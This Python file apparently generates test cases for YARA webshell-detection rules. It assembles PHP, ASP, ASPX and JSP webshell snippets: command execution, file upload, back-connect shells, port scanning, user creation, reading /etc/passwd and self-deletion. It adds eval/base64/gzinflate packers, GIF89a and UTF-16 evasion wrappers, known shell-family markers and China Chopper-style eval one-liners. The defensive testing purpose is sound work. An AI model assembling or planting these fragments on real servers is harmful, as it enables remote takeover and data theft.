# ruff: noqa: E501 (generated snippets keep a webshell line whole)
"""Generated cases for the kit (capability cluster, "大马") and family-marker rules.

Kits: per language (PHP, ASP, ASPX, JSP), random subsets of four or more capability snippets (file
manager, upload, command execution, DB console, port scan / back-connect, recon, self-removal, remote
download) in random order, between benign padding, under plain/HTML/GIF89a wrappers; PHP kits also
packed behind base64 + gzdeflate/gzcompress/str_rot13 and evaluated. Families: each family's own
markers in varying order and surroundings. Near misses: legitimate pages with one or two of the
capabilities, a page that names the families in comments, a blob decoded into a cache file.

Telling tokens are written with "§" marks (``k("shell§_exec")``): ``k`` splits at the marks and
joins the pieces with ``t``, so this source matches no rule."""

from __future__ import annotations

import base64
import hashlib
import random
import zlib
from collections.abc import Callable, Iterator

from tests.unit.detection.yara.webshell_cases import Case, t

SEED = 20261207


def k(text: str) -> str:
    """A snippet with its telling tokens broken by "§" in this source, joined at run time."""
    return t(*text.split("§"))


# ---------------------------------------------------------------- capability snippets per language

PHP_CAPS: dict[str, list[str]] = {
    "files": [
        "function fm_list($d){$o='';foreach(@scan§dir($d) as $f){$p=$d.'/'.$f;"
        "$o.=sprintf(\"%s %o %s\\n\",$f,@file§perms($p)&0777,@is_wri§table($p)?'w':'-');}return $o;}\n"
        "function fm_rm($p){return is_dir($p)?@rm§dir($p):@un§link($p);}\n",
        "$h=@open§dir($cwd);while(($e=readdir($h))!==false){echo $e,' ',@file§owner($cwd.'/'.$e),'<br>';}\n"
        "if(isset($_POST['ren'])){@ren§ame($_POST['ren'],$_POST['to']);@ch§mod($_POST['to'],0755);}\n",
        "foreach(glob($cwd.'/*') as $e){echo basename($e),(is_wri§teable($e)?' [w]':''),\"\\n\";}\n"
        "if(@$_POST['t']){@tou§ch($_POST['f'],strtotime($_POST['t']));}\n",
    ],
    "upload": [
        "if(!empty($_FILES['up'])){@move_uploaded§_file($_FILES['up']['tmp_name'],$cwd.'/'.$_FILES['up']['name']);}\n",
        "foreach($_FILES as $n=>$v){@co§py($_FILES[$n]['tmp_name'],$cwd.'/'.$v['name']);}\n",
        "$u=$_FILES['file'];if($u){move_uploaded§_file($u['tmp_name'],$dir.'/'.basename($u['name']));}\n",
    ],
    "exec": [
        "function ex($c){if(function_exists('shell§_exec')){return shell§_exec($c.' 2>&1');}return '';}\n",
        "function ex($c){ob_start();@pass§thru($c);return ob_get_clean();}\n",
        "function ex($c){$p=@po§pen($c.' 2>&1','r');$o='';while(!feof($p)){$o.=fread($p,1024);}pclose($p);return $o;}\n",
        "function ex($c){ob_start();@sys§tem($c.' 2>&1');return ob_get_clean();}\n",
        "function ex($in){$out='';if(function_exists('ex§ec')){@ex§ec($in,$out);$out=@join(\"\\n\",$out);}"
        "elseif(function_exists('pass§thru')){ob_start();@pass§thru($in);$out=ob_get_clean();}return $out;}\n",
        "function ex($c){$pr=proc§_open($c,array(array('pipe','r'),array('pipe','w')),$io);"
        "return stream_get_contents($io[1]);}\n",
    ],
    "db": [
        "function sql($h,$u,$p,$q){$l=@mysqli§_connect($h,$u,$p);return mysqli_query($l,$q);}\n"
        "$dbs=sql($_POST['h'],$_POST['u'],$_POST['p'],'SHOW DATA§BASES');\n",
        "$pdo=new P§DO($_POST['dsn'],$_POST['user'],$_POST['pass']);"
        "foreach($pdo->query('SHOW TA§BLES') as $r){echo $r[0],'<br>';}\n",
        "$l=@mysql§_connect($host,$user,$pass);$r=@mysql§_query('SHOW DATA§BASES',$l);\n",
    ],
    "net": [
        "function bc($ip,$port){$s=@fsock§open($ip,$port,$e,$es,30);if(!$s){return;}"
        'fwrite($s,"back-con§nect ok\\n");while(!feof($s)){fwrite($s,ex(fgets($s)));}}\n',
        "function ps($h,$a,$b){$o=array();for($p=$a;$p<=$b;$p++){$s=@fsock§open($h,$p,$e,$es,1);"
        "if($s){$o[]=$p;fclose($s);}}return $o;}\necho '<h3>Port Sc§an</h3>';\n",
        "$sock=socket§_create(AF_INET,SOCK_STREAM,SOL_TCP);socket§_bind($sock,'0.0.0.0',(int)$port);"
        "socket_listen($sock);$sh='/bin§/sh';\n",
    ],
    "recon": [
        "echo php§_uname(),'<br>',@ini_get('disable§_functions'),'<br>',@ini_get('open§_basedir');\n",
        "$info=array('uname'=>php§_uname(),'user'=>get_current§_user(),'safe'=>ini_get('safe§_mode'),"
        "'df'=>ini_get('disable§_functions'));\n",
        "$pw=@file_get_contents('/etc/pas§swd');$id=@posix§_getpwuid(@posix_geteuid());echo ini_get('open§_basedir');\n",
    ],
    "self": [
        "if(@$_POST['a']=='selfremove'){@un§link(__FI§LE__);die('bye');}\n",
        "if(isset($_GET['kill'])){unlink($_SERVER['SCRIPT§_FILENAME']);exit;}\n",
    ],
}

ASP_CAPS: dict[str, list[str]] = {
    "files": [
        'Set fso=Server.CreateObject("Scripting.FileSystem§Object")\nSet fd=fso.GetFol§der(Server.MapPath(p))\n'
        'For Each f In fd.Files\nResponse.Write f.Name & "<br>"\nNext\nIf Request("a")="del" Then fso.Delete§File Request("f")\n',
        'Set fso=CreateObject("Scripting.FileSystem§Object")\nFor Each d In fso.GetFolder(p).SubFol§ders\n'
        'Response.Write d.Name\nNext\nIf Request("a")="mv" Then fso.Move§File Request("f"), Request("to")\n',
    ],
    "upload": [
        'Set st=Server.CreateObject("ADODB.Str§eam")\nst.Type=1\nst.Open\nst.Write Request.Binary§Read(Request.TotalBytes)\n'
        'st.SaveTo§File Server.MapPath(Request("n")),2\n',
    ],
    "exec": [
        'Set ws=Server.CreateObject("WScript.Sh§ell")\nSet ex=ws.Ex§ec("cmd§.exe /c " & Request("c"))\n'
        "Response.Write ex.StdOut.ReadAll()\n",
        'Set sa=Server.CreateObject("Shell.Appli§cation")\nsa.ShellEx§ecute "cmd§.exe", "/c " & c, "", "open", 0\n',
    ],
    "db": [
        'Set cn=Server.CreateObject("ADODB.Conn§ection")\ncn.Open "Provider=SQLOLEDB;Data Source=" & Request("h")\n'
        'Set rs=cn.Exec§ute(Request("sql"))\n',
        'Set cn=Server.CreateObject("ADODB.Conn§ection")\ncn.Open "Driver={SQL Server};Server=" & h\nSet rs=cn.Exec§ute(q)\n',
    ],
    "net": [
        'Response.Write "<b>Port§Scan</b>"\nFor Each port In Split(Request("ports"), ",")\n'
        'cn.Open "Provider=SQLOLEDB;Data Source=" & ip & "," & port\nNext\n',
        'Response.Write "Serv-U local admin"\nsock.SendData "SITE MAINT§ENANCE" & vbCrLf\n',
        'ws.Run "net us§er " & Request("u") & " " & Request("p") & " /add", 0\n',
    ],
    "recon": [
        'Response.Write Request.ServerVariables("LOCAL§_ADDR") & " " & Request.ServerVariables("SERVER§_SOFTWARE")\n',
        'Set wn=Server.CreateObject("WScript.Net§work")\nResponse.Write wn.Computer§Name & " " & wn.UserName\n'
        'Response.Write Request.ServerVariables("NUMBER_OF§_PROCESSORS")\n',
    ],
    "self": [
        'If Request("a")="kill" Then fso.DeleteFile(Server.MapPath(Request.ServerVariables("SCRIPT§_NAME")))\n',
        'If Request("a")="bye" Then CreateObject("Scripting.FileSystemObject").DeleteFile Request.ServerVariables("PATH§_TRANSLATED")\n',
    ],
}

ASPX_CAPS: dict[str, list[str]] = {
    "files": [
        'void Ls(string d){foreach(string f in Directory.GetF§iles(d)){Response.Write(f+"<br>");}}\n'
        "void Rm(string f){File.Del§ete(f);}\n",
        "void Ls(string d){foreach(var x in new DirectoryIn§fo(d).GetFileSystemInfos()){Response.Write(x.Name);}}\n"
        "void Mv(string a,string b){File.Mo§ve(a,b);}\n",
    ],
    "upload": [
        'void Up(){if(Request.Files.Count>0){Request.Files[0].Save§As(Server.MapPath(".")+"/"+Path.GetFileName(Request.Files[0].FileName));}}\n',
        'void Up(){up.Posted§File.SaveAs(Server.MapPath(".")+"\\\\"+up.FileName);}\n',
    ],
    "exec": [
        'string Run(string c){ProcessStart§Info si=new ProcessStart§Info("cmd§.exe","/c "+c);'
        "si.RedirectStandard§Output=true;si.UseShellExecute=false;"
        "return System.Diagnostics.Process.St§art(si).StandardOutput.ReadToEnd();}\n",
        'string Run(string c){var p=new Pro§cess();p.StartInfo.FileName="cmd§.exe";p.StartInfo.Arguments="/c "+c;'
        "p.StartInfo.RedirectStandard§Output=true;p.StartInfo.UseShellExecute=false;p.St§art();"
        "return p.StandardOutput.ReadToEnd();}\n",
    ],
    "db": [
        "void Sql(string cs,string q){SqlConnection cn=new SqlConn§ection(cs);cn.Open();"
        "var da=new SqlData§Adapter(q,cn);var t=new DataTable();da.Fill(t);}\n",
        "void Sql(string cs,string q){var cn=new OleDbConn§ection(cs);cn.Open();"
        "var r=new OleDbCommand(q,cn).ExecuteRea§der();}\n",
    ],
    "net": [
        'void Scan(string ip,int port){var tc=new TcpCl§ient();tc.Connect(ip,port);Response.Write("Port§Scan "+port);}\n',
        "void Back(string ip,int port){var s=new Sock§et(AddressFamily.InterNetwork,SocketType.Stream,ProtocolType.Tcp);"
        's.Connect(ip,port);var sh="cmd§.exe";}\n',
    ],
    "system": [
        'void Reg(){RegistryKey rk=Registry.LocalMach§ine.OpenSubKey("SYSTEM");Response.Write(Environment.Machine§Name);}\n',
        "void Info(){Response.Write(Environment.Machine§Name+Environment.User§Name+Environment.OS§Version);}\n",
        'void Iis(){var de=new DirectoryEntry("IIS://local§host/W3SVC");Response.Write(WindowsIdentity.GetCur§rent().Name);}\n',
    ],
    "self": [
        "void Kill(){File.Delete(Request.Physical§Path);}\n",
        "void Kill(){File.Delete(Server.MapPath(Request.File§Path));}\n",
    ],
}

JSP_CAPS: dict[str, list[str]] = {
    "files": [
        'File[] fs=new File(d).listF§iles();for(File f:fs){out.println(f.getName()+"<br>");}\n'
        'if("rm".equals(a)){new File(request.getPara§meter("f")).del§ete();}\n',
        'for(File r:File.listRo§ots()){out.println(r);}\nif("mv".equals(a)){new File(f).rena§meTo(new File(to));}\n',
    ],
    "upload": [
        'if(request.getContentType()!=null&&request.getContentType().startsWith("multipart/form-data")){'
        "InputStream in=request.getInput§Stream();FileOutputStream fo=new FileOutput§Stream(path);}\n",
        'FileOutputStream fo=new FileOutput§Stream(dir+p.getSubmittedFileName());InputStream in=request.getPa§rt("f").getInputStream();\n',
    ],
    "exec": [
        'Process pr=Runtime.getRuntime().ex§ec(new String[]{"/bin/sh","-c",cmd});\n',
        'Process pr=new ProcessBu§ilder("cmd.exe","/c",cmd).redirectErrorStream(true).start();\n',
    ],
    "db": [
        "Connection cn=DriverManager.getConn§ection(url,u,p);ResultSet rs=cn.createStatement().executeQ§uery(sql);\n",
        "Connection cn=DriverManager.getConn§ection(url,u,p);ResultSet rs=cn.getMetaD§ata().getCatalogs();\n",
    ],
    "net": [
        'Socket s=new Sock§et(ip,port);out.println("Port§Scan "+port+" open");\n',
        'Socket s=new Sock§et(ip,port);Process sh=Runtime.getRuntime().ex§ec("/bin§/sh");out.println("back-connect");\n',
    ],
    "recon": [
        'out.println(System.getProperty("os.name")+System.getProperty("user.dir")+System.get§env());\n',
        'out.println(System.getProperty("user.name")+System.getProperty("java.home")+application.getRealPath("/"));\n',
    ],
    "download": [
        'URL u=new URL(request.getParameter("url"));InputStream is=u.openSt§ream();FileOutputStream fo=new FileOutput§Stream(to);\n',
    ],
    "self": [
        "new File(application.getRealPath(request.getServletPath())).del§ete();\n",
        "new java.io.File(request.getRealPath(request.getServletPath())).del§ete();\n",
    ],
}

SHELL_CAPS = {"exec", "net", "self"}

# ---------------------------------------------------------------- benign padding

PHP_PAD = [
    "function fmt_size($b){$u=array('B','KB','MB','GB');for($i=0;$b>=1024&&$i<3;$i++){$b/=1024;}return round($b,2).$u[$i];}\n",
    "$style='body{background:#222;color:#eee;font:12px Verdana}table{width:100%}td{padding:2px}';\n",
    "function h($s){return htmlspecialchars($s,ENT_QUOTES,'UTF-8');}\n",
    "$menu=array('Files','Console','Sql','Info','Network','Logout');foreach($menu as $m){echo '<a href=#>'.h($m).'</a> ';}\n",
    "/* navigation and layout helpers */\nfunction row($a,$b){return '<tr><td>'.$a.'</td><td>'.$b.'</td></tr>';}\n",
    "$cwd=isset($_POST['d'])?$_POST['d']:getcwd();$cwd=str_replace('\\\\','/',$cwd);\n",
]
ASP_PAD = [
    'Function FmtSize(b)\nIf b>1048576 Then\nFmtSize=Round(b/1048576,2) & " MB"\nElse\nFmtSize=Round(b/1024,2) & " KB"\nEnd If\nEnd Function\n',
    'Response.Write "<style>body{background:#222;color:#eee}</style>"\n',
    '\' navigation\nDim menu\nmenu=Array("Files","Cmd","Sql","Info")\n',
    'p=Request("p")\nIf p="" Then p="."\n',
]
ASPX_PAD = [
    'string Fmt(long b){return b>1048576?(b/1048576.0).ToString("F2")+" MB":(b/1024.0).ToString("F2")+" KB";}\n',
    '// layout helpers\nstring Row(string a,string b){return "<tr><td>"+a+"</td><td>"+b+"</td></tr>";}\n',
    'protected void Page_Load(object s,EventArgs e){Response.Write("<h2>Panel</h2>");}\n',
]
JSP_PAD = [
    "long kb = new java.util.Random().nextInt(1024) / 1024;\n",
    'out.println("<style>body{background:#222;color:#eee}</style>");\n',
    '// navigation\nString[] menu={"Files","Shell","Sql","Info"};\n',
    'String a=request.getParameter("a");if(a==null){a="";}\n',
]

PHP_WRAPPERS: dict[str, Callable[[str], str]] = {
    "plain": lambda body: "<?php\n" + body + "?>\n",
    "html": lambda body: "<html><head><title>Admin</title></head><body>\n<?php\n" + body + "?>\n</body></html>\n",
    "gif": lambda body: "GIF89a\x01\x00\x01\x00\n<?php\n" + body,
    "short": lambda body: "<?\n" + body + "?>\n",
}
ASP_WRAPPERS: dict[str, Callable[[str], str]] = {
    "plain": lambda body: "<%@ Language=VBScript %>\n<%\n" + body + "%>\n",
    "html": lambda body: "<html><body>\n<%\n" + body + "%>\n</body></html>\n",
    "gif": lambda body: "GIF89a\n<%\n" + body + "%>\n",
}
ASPX_WRAPPERS: dict[str, Callable[[str], str]] = {
    "plain": lambda body: (
        '<%@ Page Language="C#" %>\n<%@ Import Namespace="System.IO" %>\n<script runat="server">\n'
        + body
        + "</script>\n"
    ),
    "html": lambda body: (
        '<%@ Page Language="C#" Debug="false" %>\n<html><body>\n<script runat="server">\n'
        + body
        + '</script>\n<form runat="server"></form></body></html>\n'
    ),
    "gif": lambda body: 'GIF89a\n<%@ Page Language="C#" %>\n<script runat="server">\n' + body + "</script>\n",
}
JSP_WRAPPERS: dict[str, Callable[[str], str]] = {
    "plain": lambda body: (
        '<%@ page import="java.io.*,java.net.*,java.sql.*,java.util.*" %>\n<%\n'
        'String cmd=request.getParameter("c");\n' + body + "%>\n"
    ),
    "html": lambda body: (
        '<%@ page contentType="text/html;charset=UTF-8" import="java.io.*,java.net.*,java.sql.*" %>\n'
        '<html><body>\n<%\nString cmd=request.getParameter("c");\n' + body + "%>\n</body></html>\n"
    ),
    "gif": lambda body: (
        'GIF89a\n<%@ page import="java.io.*,java.net.*,java.sql.*" %>\n<%\n'
        'String cmd=request.getParameter("c");\n' + body + "%>\n"
    ),
}

LANGS = {
    "php": (PHP_CAPS, PHP_PAD, PHP_WRAPPERS, "php"),
    "asp": (ASP_CAPS, ASP_PAD, ASP_WRAPPERS, "asp"),
    "aspx": (ASPX_CAPS, ASPX_PAD, ASPX_WRAPPERS, "aspx"),
    "jsp": (JSP_CAPS, JSP_PAD, JSP_WRAPPERS, "jsp"),
}


def _kit_body(rng: random.Random, caps: dict[str, list[str]], pad: list[str], chosen: list[str]) -> str:
    parts = [k(rng.choice(caps[name])) for name in chosen]
    for _ in range(rng.randint(1, 4)):
        parts.insert(rng.randint(0, len(parts)), rng.choice(pad))
    return "".join(parts)


def _choose(rng: random.Random, names: list[str], size: int) -> list[str]:
    while True:
        chosen = rng.sample(names, size)
        if SHELL_CAPS & set(chosen):
            return chosen


def _kit_cases(rng: random.Random) -> Iterator[Case]:
    for lang, (caps, pad, wrappers, ext) in LANGS.items():
        names = sorted(caps)
        for index in range(36):
            size = rng.randint(4, len(names))
            chosen = _choose(rng, names, size)
            wrapper = rng.choice(sorted(wrappers))
            body = _kit_body(rng, caps, pad, chosen)
            # IIS also runs pages saved as UTF-16 (a way around byte-string signatures)
            encoding = "utf-16" if lang in ("asp", "aspx") and index % 6 == 5 else "utf-8"
            yield Case(
                f"kit.{lang}",
                f"caps={'+'.join(chosen)} wrapper={wrapper} encoding={encoding}",
                lang,
                f"kit{index}.{ext}",
                wrappers[wrapper](body).encode(encoding),
            )


# ---------------------------------------------------------------- PHP kits packed behind a decoder


def _php_padding(rng: random.Random, rows: int) -> str:
    return "".join(
        f"echo '<tr><td>{i}</td><td>{hashlib.sha1(f'{rng.random()}'.encode()).hexdigest()}</td></tr>';\n"
        for i in range(rows)
    )


def _packers() -> dict[str, Callable[[bytes], str]]:
    ev, b64, gzi, gzu, rot = (
        t("ev", "al"),
        t("base64", "_decode"),
        t("gzin", "flate"),
        t("gzun", "compress"),
        t("str_", "rot13"),
    )

    def raw_deflate(data: bytes) -> bytes:
        comp = zlib.compressobj(9, zlib.DEFLATED, -15)
        return comp.compress(data) + comp.flush()

    def b64s(data: bytes) -> str:
        return base64.b64encode(data).decode()

    def rot13(text: str) -> str:
        return text.translate(
            str.maketrans(
                "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz",
                "NOPQRSTUVWXYZABCDEFGHIJKLMnopqrstuvwxyzabcdefghijklm",
            )
        )

    return {
        "eval-gzinflate-b64": lambda d: f"@{ev}({gzi}({b64}('{b64s(raw_deflate(d))}')));\n",
        "eval-closing-tag": lambda d: f"{ev}('?>'.{gzi}({b64}('{b64s(raw_deflate(b'?>' + d))}')));\n",
        "var-names": lambda d: f"$a='{b64}';$b='{gzi}';$c=$a('{b64s(raw_deflate(d))}');@{ev}($b($c));\n",
        "gzuncompress-var": lambda d: f'$x={gzu}({b64}("{b64s(zlib.compress(d, 9))}"));\n{ev}($x);\n',
        "rot13-b64": lambda d: f"{ev}({gzi}({b64}({rot}('{rot13(b64s(raw_deflate(d)))}'))));\n",
        "chunked": lambda d: (
            "$p='';\n"
            + "".join(f"$p.='{chunk}';\n" for chunk in _chunks(b64s(raw_deflate(d)), 200))
            + f"{ev}({gzi}({b64}($p)));\n"
        ),
    }


def _chunks(text: str, size: int) -> list[str]:
    return [text[i : i + size] for i in range(0, len(text), size)]


def _packed_cases(rng: random.Random) -> Iterator[Case]:
    names = sorted(PHP_CAPS)
    packers = _packers()
    for index in range(36):
        chosen = _choose(rng, names, rng.randint(4, len(names)))
        body = _kit_body(rng, PHP_CAPS, PHP_PAD, chosen) + _php_padding(rng, rng.randint(250, 600))
        packer = sorted(packers)[index % len(packers)]
        wrapper = rng.choice(["plain", "gif", "html"])
        packed = packers[packer](body.encode())
        text = {
            "plain": "<?php\n" + packed,
            "gif": "GIF89a\n<?php\n" + packed,
            "html": "<html><body><?php " + packed + "?></body></html>\n",
        }[wrapper]
        yield Case(
            "kit.packed",
            f"packer={packer} caps={'+'.join(chosen)} wrapper={wrapper}",
            "php",
            f"p{index}.php",
            text.encode(),
        )
    # long \x-escaped strings evaluated
    for index in range(6):
        body = _kit_body(rng, PHP_CAPS, PHP_PAD, _choose(rng, names, 4)) + _php_padding(rng, 60)
        escaped = "".join(f"\\x{b:02x}" for b in body.encode())
        text = f'<?php\n$s="{escaped}";\n@{t("ev", "al")}($s);\n'
        yield Case("kit.packed", "packer=hex-escapes", "php", f"hex{index}.php", text.encode())


# ---------------------------------------------------------------- family markers

FAMILY_MARKERS: dict[str, tuple[str, str, list[str], list[str]]] = {
    # family: (language, extension, core markers (all used), optional markers (random subset))
    "wso": (
        "php",
        "php",
        ["$default_action = 'Files§Man';\n", "$auth_pass = '63a9f0ea7bb98050796b649e85481845';\n"],
        [
            "$default_use_ajax = true;\n",
            "$default_charset = 'Windows-1251';\n",
            "function wso§Header() { global $color; echo '<html><head><title>' . $_SERVER['HTTP_HOST'] . ' - WSO 2.5</title>'; }\n",
            "function wso§Perms($p) { return substr(sprintf('%o', $p), -4); }\n",
            "function action§SecInfo() { wsoHeader(); echo '<h1>Server security information</h1>'; }\n",
            "function action§Console() { wsoHeader(); }\nfunction action§Network() { wsoHeader(); }\n",
            "if (empty($_POST['a'])) { $_POST['a'] = $default_action; }\n",
            "$color = '#df5';\n",
        ],
    ),
    "c99": (
        "php",
        "php",
        ["echo '<title>!C99§Shell v. ' . $shver . '</title>';\n"],
        [
            "$sh§ver = '1.0 pre-release build #16';\n",
            "$sess_cookie = 'c99§shvars';\n",
            "function c99sh§_getupdate() { return 1; }\n",
            "function c99ftpbru§techeck($host, $port, $timeout, $login, $pass, $sh, $fqb_onlywithsh) { return 0; }\n",
            "if ($a§ct == 'ls') { $act = 'ls'; }\nif ($a§ct == 'cmd') { echo '<b>Command execute</b>'; }\n",
            "$c99sh_sources§url = 'http://example.invalid/';\n",
        ],
    ),
    "r57": (
        "php",
        "php",
        ["echo '<title>r57§shell</title>';\n"],
        [
            "$port_bind_§bd_c = 'I2luY2x1ZGUgPHN0ZGlvLmg+';\n",
            "$port_bind_§bd_pl = 'IyEvdXNyL2Jpbi9wZXJs';\n",
            "$back_§connect = 'IyEvdXNyL2Jpbi9wZXJs';\n",
            "$datapipe_§c = 'I2luY2x1ZGUgPHN5cy9zb2NrZXQuaD4=';\n",
            "$lang = array('eng_te§xt1' => 'Executed command', 'eng_bu§tt1' => 'Execute');\n",
            "echo $lang[$language . '_te§xt2'];\n",
        ],
    ),
    "b374k": (
        "php",
        "php",
        ["$s_ti§tle = 'b374§k shell';\n"],
        [
            "$GLOBALS['module_to_§load'] = array('explo§rer', 'terminal', 'eval', 'convert', 'database', 'info', 'mail', 'network', 'processes');\n",
            "$GLOBALS['reso§urces']['b374k'] = '';\n",
            "$s_pa§ss = '0de664ecd2be02cdd54234a0d1229b43';\n",
            "$s_v§er = '2.8';\n",
            "$func = 'cr'.'ea§t'.'e_fun'.'cti'.'on';\n",
        ],
    ),
    "phpspy": (
        "php",
        "php",
        ["$admin['pa§ss'] = 'angel';\n", "$admin['cookie§pre'] = '';\n"],
        [
            "$admin['cookie§domain'] = '';\n$admin['cookie§path'] = '/';\n",
            "// PhpSpy 2011 code by Angel, Security Angel Team [S4T]\n",
            "function make§hide($name, $value = '') { echo \"<input type=hidden name=$name value=$value>\"; }\n",
            "function form§head($arg = array()) { echo '<form>'; }\nfunction make§input($arg = array()) { }\n",
            "function size§count($size) { return $size; }\n",
            "if ($action == 'sql§admin') { }\nif ($action == 'port§scan') { }\nif ($action == 'back§connect') { }\n",
        ],
    ),
    "aspxspy": (
        "aspx",
        "aspx",
        ["<title>ASPX§Spy2014</title>\n"],
        [
            'public string Password = "21232f297a57a5a7438§94a0e4a801fc3";\n',
            "// Copyright (C) 2009 Bin -> WwW.RoOTKiT.NeT.§Cn\n",
            "protected void Bin§_Button_Click(object sender, EventArgs e) { }\n",
            "protected void Bin§_List_Click(object sender, EventArgs e) { }\n",
            "protected void Bin§_PortScan(object sender, EventArgs e) { }\n",
            "protected void Bin§_SQLExec(object sender, EventArgs e) { }\n",
        ],
    ),
    "jspspy": (
        "jsp",
        "jsp",
        ["<!-- JspS§py Private Code By Nin§ty -->\n"],
        [
            'private static final String PW_SESSION_ATTRI§BUTE = "JspSpyPwd";\n',
            'ins.put("vLo§gin", new VLoginInvoker());\nins.put("vSh§ell", new VShellInvoker());\n',
            "private static class VLoginInvoker extends Default§Invoker { }\n",
            "private static class VPortScanInvoker extends Default§Invoker { }\n",
            'private static final String SHELL_§NAME = "JspSpy";\n',
        ],
    ),
    # variants: JspSpy mods (renamed session attribute), ASPXSpy 2014 mod, phpspy's Chinese derivatives
    "jspspy:mod": (
        "jsp",
        "jsp",
        [
            'private static final String PW_SESSION_ATTRI§BUTE = "SpyPwd";\n',
            'private static final String PORT_MAP = "PM§SA";\n',
            "private static interface Inv§oker {\npublic void invoke(HttpServletRequest request,HttpServletResponse response,HttpSession JSession) throws Exception;\n}\n",
        ],
        [
            "private static class ScriptInvoker extends Default§Invoker { }\n",
            'private static final String CURRENT_DIR = "currentdir";\n',
            "private static class OnLineConnector extends Thr§ead { }\n",
            'if(this.name.equals("exeR§clientO")) { }\n',
            'if (o != null && o.equals("login")) { ins.get("log§in").invoke(request,response,session); }\n',
        ],
    ),
    "aspxspy:mod": (
        "aspx",
        "aspx",
        ['public const string Version="ASPX§Spy2014";\n', "/* Code by Bin, Blog: http://www.rootkit.net.§cn */\n"],
        [
            'public const string Password="21232f297a57a5a7438§94a0e4a801fc3";\n',
            'Bin§_H2_Title.InnerHtml="Clone file was last modified time >>";\n',
            '// <asp:Panel ID="Bin§_MainPanel" runat="server"></asp:Panel>\n',
            'private const string DomainUserName="administrator";\n',
        ],
    ),
    "phpspy:cn": (
        "php",
        "php",
        [
            "$admin['check'] = true;\n",
            "// 如果需要密码验证,请修改登陆密码\n$admin['pa§ss']  = 'f4f068e71e0d87bf0ad51e6214ab84e9';\n",
            "// cookie 前缀\n$admin['cookie§pre'] = '';\n",
            "// cookie 作用域\n$admin['cookie§domain'] = '';\n",
        ],
        [
            "// cookie 作用路径\n$admin['cookie§path'] = '/';\n",
            "// cookie 有效期\n$admin['cookie§life'] = 86400;\n",
            "function scoo§kie($key, $value, $life = 0, $prefix = 1) { global $admin; }\n",
        ],
    ),
    "alfa": (
        "php",
        "php",
        ['define("__ALFA_VER§SION__", "4.1");\n'],
        [
            'define("__ALFA_UPD§ATE__", "2");\n',
            'define("__ALFA_CODE_§NAME__", "Tesla");\n',
            'define("__ALFA_DATA_§FOLDER__", "ALFA_DATA");\n',
            "if(!isset($GLOBALS['DB_NA§ME']['show_icons']))exit('show_icons');\n",
            "// ~ ALFA TE§aM Shell\n",
        ],
    ),
    "indoxploit": (
        "php",
        "php",
        [
            "echo \"<li><a href='?dir=$dir&do=krdp_§shell'>K-RDP Shell</a></li>\";\n",
            "echo \"<li><a href='?dir=$dir&do=cpftp_§auto'>CPanel/FTP Auto Deface</a></li>\";\n",
        ],
        [
            "echo \"<li><a href='?dir=$dir&do=jump§ing'>Jumping</a></li>\";\n",
            "echo \"<li><a href='?dir=$dir&do=mass_def§ace'>Mass Deface</a></li>\";\n",
            "echo \"<li><a href='?dir=$dir&do=fake_§root'>Fake Root</a></li>\";\n",
            "if($_GET['do'] == 'auto_edit_§user') { }\n",
            "// IndoX§ploit Shell\n",
        ],
    ),
}

FAMILY_WRAP: dict[str, Callable[[str], str]] = {
    "php": lambda body: "<?php\n" + body + "?>\n",
    "aspx": lambda body: '<%@ Page Language="C#" %>\n<script runat="server">\n' + body + "</script>\n",
    "jsp": lambda body: '<%@ page import="java.io.*,java.util.*" %>\n<%!\n' + body + "%>\n",
}
FAMILY_PAD = {"php": PHP_PAD, "aspx": ASPX_PAD, "jsp": ["// helpers\n", 'String title = "Panel";\n']}


def _marker_cases(rng: random.Random) -> Iterator[Case]:
    for family, (lang, ext, core, extra) in FAMILY_MARKERS.items():
        for index in range(16):
            needed = 2 if family == "aspxspy" else 1  # ASPXSpy: the name and one more
            picked = [k(m) for m in core + rng.sample(extra, rng.randint(needed, len(extra)))]
            rng.shuffle(picked)
            for _ in range(rng.randint(0, 3)):
                picked.insert(rng.randint(0, len(picked)), rng.choice(FAMILY_PAD[lang]))
            body = "".join(picked)
            text = FAMILY_WRAP[lang](body)
            if index % 4 == 1:
                text = "GIF89a\n" + text
            base, name = family.split(":")[0], family.replace(":", "-")
            yield Case(
                f"family.{base}",
                f"{family} markers={len(picked)} n={index}",
                lang,
                f"{name}{index}.{ext}",
                text.encode(),
            )


def _ws(rng: random.Random) -> str:
    return rng.choice(["", " ", "  "])


def _name(rng: random.Random) -> str:
    return rng.choice(["x", "cmd", "pass", "ant", "z", "a1", "k8", "hello", "chopper"])


def _tool_cases(rng: random.Random) -> Iterator[Case]:
    ev, post, req = t("ev", "al"), t("$_PO", "ST"), t("$_REQ", "UEST")
    for index in range(16):
        s, n = _ws(rng), _name(rng)
        forms = [
            ("php", f"<?php @{ev}({s}{rng.choice([post, req])}['{n}']{s});?>"),
            ("asp", f'<%{t("ev", "al")} request("{n}")%>'),
            ("asp", f'<%{t("exec", "ute")}{s}request("{n}")%>'),
            ("aspx", f'<%@ Page Language="Jscript"%><%{ev}(Request.Item["{n}"],"{t("uns", "afe")}");%>'),
            ("php", f"<?php @{ev}({t('base64', '_decode')}({post}[z0]));?>"),
            (
                "jsp",
                '<%@ page import="java.io.*" %>\n<%\nString Z = request.getParameter("'
                + n
                + '");\n'
                + "".join(f'if(Z.equals("{c}")){{ out.print(" "); }}\n' for c in "ABCDEFGH")
                + f'String z1 = request.get{t("Param", "eter")}("z{t("1")}");\nString z2 = request.get{t("Param", "eter")}("z{t("2")}");\n%>\n',
            ),
        ]
        lang, text = forms[index % len(forms)]
        yield Case("family.chopper", f"form={index % len(forms)}", lang, f"ch{index}.{lang}", text.encode())
    yield Case(
        "family.chopper",
        "reply-markers",
        "asp",
        "ch-reply.txt",
        k(
            'Response.Write("->§|"):Var_Ex = Request("z1"):Exec§ute(Var_Ex):Response.Write("|§<-"):Response.End\n'
        ).encode(),
    )

    for index in range(12):
        v, n = rng.choice(["a", "ant", "b", "f"]), _name(rng)
        forms = [
            f"<?php\n${v} = {t('base64', '_decode')}(\"{t('YXNz', 'ZXJ0')}\");\n${v}({post}['{n}']);\n?>",
            k(
                '@ini_set("display_errors", "0");@set_time_limit(0);$opdir=@ini_get("open_basedir");'
                'if($opdir) {$ocwd=dirname($_SERVER["SCRIPT_FILENAME"]);$oparr=preg_split(base64_decode("Lzt8§Oi8="),$opdir);}'
                "function as§enc($out){return $out;};function as§output(){$output=ob_get_contents();ob_end_clean();}"
            ),
            k(
                "function as§enc($out){return @base64_encode($out);};function as§output(){$output=ob_get_contents();ob_end_clean();echo @asenc($output);}"
            ),
        ]
